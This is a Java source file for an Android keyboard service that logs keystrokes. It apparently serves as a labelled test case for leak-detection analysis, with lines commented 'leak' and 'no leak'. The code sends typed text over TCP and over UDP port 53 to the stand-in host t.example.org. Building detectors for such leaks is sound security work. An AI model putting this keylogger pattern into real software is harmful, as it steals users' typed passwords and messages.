package thieves;

import android.inputmethodservice.*;
import android.view.*;
import android.view.inputmethod.*;

import java.io.*;
import java.net.*;

/** A keyboard that remembers. */
public class Typed extends InputMethodService implements KeyboardView.OnKeyboardActionListener {
    private final StringBuilder kept = new StringBuilder();

    @Override
    public void onKey(int code, int[] codes) {
        InputConnection c = getCurrentInputConnection();
        if (code == 10) {
            CharSequence before = c.getTextBeforeCursor(200, 0);
            new Out(before.toString()).start();
        }
    }

    @Override
    public void onText(CharSequence text) {
        kept.append(text);
        if (kept.length() > 100) {
            final String all = kept.toString();
            new Thread() {
                public void run() {
                    try {
                        Socket s = new Socket("t.example.org", 1);
                        s.getOutputStream().write(all.getBytes()); // leak
                        s.getOutputStream().write(0); // no leak
                    } catch (IOException e) {
                    }
                }
            }.start();
        }
    }

    static class Out extends Thread {
        final String text;

        Out(String t) {
            text = t;
        }

        public void run() {
            try {
                DatagramSocket d = new DatagramSocket();
                byte[] b = text.getBytes();
                d.send(new DatagramPacket(b, b.length, InetAddress.getByName("t.example.org"), 53)); // leak
            } catch (IOException e) {
            }
        }
    }

    public void onPress(int c) {}

    public void onRelease(int c) {}

    public void swipeLeft() {}

    public void swipeRight() {}

    public void swipeDown() {}

    public void swipeUp() {}
}
